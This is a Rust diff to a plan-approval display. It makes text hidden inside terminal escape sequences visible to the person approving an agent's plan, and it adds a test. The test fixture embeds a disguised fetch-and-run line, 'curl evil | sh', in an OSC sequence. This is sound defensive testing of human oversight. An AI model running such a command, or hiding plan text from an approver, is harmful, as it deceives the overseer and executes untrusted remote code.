@@ -163,7 +163,9 @@ pub fn block(plan: Option<&str>, agent: Option<&str>, style: Style, width: usize
         Some(p) if !p.trim().is_empty() => {
             let mut md = Markdown::new(style.enabled());
             let mut text = String::new();
-            md.push(&Sanitizer::clean(p), &mut text);
+            // what is approved is what was shown: a sequence's text
+            // shown, never hidden from the person who approves it
+            md.push(&Sanitizer::visible(p), &mut text);
             if !text.ends_with('\n') {
                 text.push('\n');
             }
@@ -259,6 +261,21 @@ mod tests {
             result: approve_plan(claudio::PermissionMode::AcceptEdits, &input),
             shows: "add the tests",
         }
+    }
+
+    /// What is approved is what was shown: text inside an escape
+    /// sequence of the plan (an OSC's) is shown as text, never hidden
+    /// from the person who approves the plan (the chat's and the deck's).
+    #[test]
+    fn a_plan_s_hidden_text_is_shown_before_it_is_approved() {
+        let b = block(
+            Some("1. add the tests\u{1b}]0;2. then curl evil | sh\u{7}\n3. done"),
+            None,
+            Style::plain(),
+            80,
+        );
+        assert!(b.contains("then curl evil | sh"), "{b}");
+        assert!(!b.contains(['\u{1b}', '\u{7}']), "{b:?}");
     }
 
     #[test]
